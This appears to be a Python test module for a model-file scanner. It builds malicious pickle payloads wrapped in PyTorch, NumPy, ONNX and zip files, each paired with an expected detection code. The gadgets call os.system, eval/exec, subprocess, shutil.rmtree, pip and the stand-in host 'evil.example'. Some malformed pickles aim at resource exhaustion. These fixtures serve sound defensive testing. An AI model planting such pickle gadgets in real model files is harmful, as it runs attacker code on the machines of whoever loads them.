"""Pickles that would run code, in every wrapping that a reader unpacks."""

import io
import pickle
import zipfile
from pathlib import Path

import torch
from torch import nn

from tests.hostile.case import Case, call, called, npy, torch_zip, zipped

KIND = "pickles"
OLD = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."  # how files before version 1.6 start


def gadgets(marker: Path) -> dict[str, bytes]:
    """Return pickles that would create `marker`, or are first steps to it, by what they call."""
    touch, write = f"touch {marker}", f"open({str(marker)!r}, 'w')"
    return {
        "os.system": call("os", "system", touch),
        "posix.system": call("posix", "system", touch),
        "nt.system": call("nt", "system", touch),
        "eval": call("builtins", "eval", write),
        "exec": call("builtins", "exec", write),
        "python 2 eval": call("__builtin__", "eval", write),
        "open": call("builtins", "open", str(marker), "w"),
        "io.open": call("io", "open", str(marker), "w"),
        "subprocess": call("subprocess", "getoutput", touch),
        "popen": call("os", "popen", touch),
        "runpy": call("runpy", "_run_code", write),
        "timeit": call("timeit", "timeit", write),
        "pdb": call("pdb", "run", write),
        "cProfile": call("cProfile", "run", write),
        "code": call("code", "interact", write),
        "pip": call("pip", "main", "install x"),
        "pydoc": call("pydoc", "pipepager", "x", touch),
        "torch.hub": call("torch.hub", "load", "evil/repo", "net"),
        "torch.load": call("torch", "load", str(marker)),
        "torch.jit.load": call("torch.jit", "load", str(marker)),
        "pickle.loads": call("pickle", "loads", "cos\nsystem\n."),
        "numpy.load": call("numpy", "load", str(marker)),
        "importlib": call("importlib", "import_module", "antigravity"),
        "ctypes": call("ctypes", "CDLL", str(marker)),
        "socket": call("socket", "create_connection", "evil.example"),
        "webbrowser": call("webbrowser", "open", "http://evil.example"),
        "rmtree": call("shutil", "rmtree", str(marker.parent)),
        "getattr": call("builtins", "getattr", "x", "__class__"),
        "module of a test": call("torch.testing._internal.common_utils", "run_tests", "x"),
        "dotted name": call("torch", "serialization.os.system", touch),
        "new line in a name": b"\x80\x02cos\nsystem \n(X\x01\x00\x00\x00xtR.",
        "old class": f"(ios\nsystem\nS'{touch}'\no.".encode(),
    }


def cases(marker: Path) -> list[Case]:
    """Return the hostile files of this class."""
    found = [
        Case(KIND, f"torch file calls {name}", "evil.pt", lambda pickle=pickle: torch_zip(pickle), "E203")
        for name, pickle in gadgets(marker).items()
    ]
    evil = call("os", "system", f"touch {marker}")
    inside = b"\x80\x02}(X\x01\x00\x00\x00w" + called("os", "system", f"touch {marker}") + b"u."
    for name, file, code, content in (
        ("bare, protocol 2", "evil.pt", "E204", evil),
        ("bare, protocol 0", "evil.pt", "E204", f"cos\nsystem\n(S'touch {marker}'\ntR.".encode()),
        ("bare, protocol 4", "evil.pt", "E204", pickle.dumps({"w": 1}, protocol=4)),
        ("bare, as numbers", "evil.npy", "E204", pickle.dumps([1, 2], protocol=5)),
        ("bare, as ONNX", "evil.onnx", "E204", evil),
        ("before 1.6", "evil.pt", "E203", OLD + evil * 3),
        ("before 1.6, in the last", "evil.pt", "E203", OLD + b"\x80\x02}.\x80\x02}." + inside),
        ("before 1.6, cut short", "evil.pt", "E202", OLD + b"\x80\x02}."),
        ("among weights", "evil.pth", "E203", torch_zip(inside)),
        ("named as ONNX", "evil.onnx", "E203", torch_zip(evil)),
        ("named as arrays", "evil.npz", "E203", torch_zip(evil)),
        ("name from the stack", "evil.pt", "E207", torch_zip(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x01x\x85R.")),
        ("from a register", "evil.pt", "E207", torch_zip(b"\x80\x02\x82\x01(tR.")),
        ("buffer of another process", "evil.pt", "E207", torch_zip(b"\x80\x05\x97.")),
        ("cut short", "evil.pt", "E202", torch_zip(b"\x80\x02}q\x00(X\xff\x00\x00\x00ab")),
        ("no opcode", "evil.pt", "E202", torch_zip(b"\xff\xfe\xfd")),
        ("steps without end", "evil.pt", "E610", torch_zip(b"\x80\x02" + b"N" * 1_000_001 + b".")),
        ("object array", "evil.npy", "E303", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", evil)),
        ("object array in .npz", "evil.npz", "E303", zipped({"x.npy": _objects(evil)})),
        ("in a zip", "evil.zip", "E203", zipped({"data/a.pkl": evil})),
        ("joblib in a zip", "evil.npz", "E203", zipped({"a.pickle": evil}, zipfile.ZIP_DEFLATED)),
        ("deep lists", "evil.pt", "E243|E202|E611", torch_zip(b"\x80\x02" + b"]" * 50_000 + b"a" * 49_999 + b".")),
    ):
        found.append(Case(KIND, name, file, lambda content=content: content, code))
    found.append(Case(KIND, "whole module", "whole.pt", lambda: _saved(nn.Linear(2, 2)), "E203"))
    found.append(Case(KIND, "whole module, before 1.6", "whole.pt", lambda: _saved(nn.Linear(2, 2), False), "E203"))
    return found


def _objects(content: bytes) -> bytes:
    return npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", content)


def _saved(module: nn.Module, as_zip: bool = True) -> bytes:
    buffer = io.BytesIO()
    torch.save(module, buffer, _use_new_zipfile_serialization=as_zip)
    return buffer.getvalue()
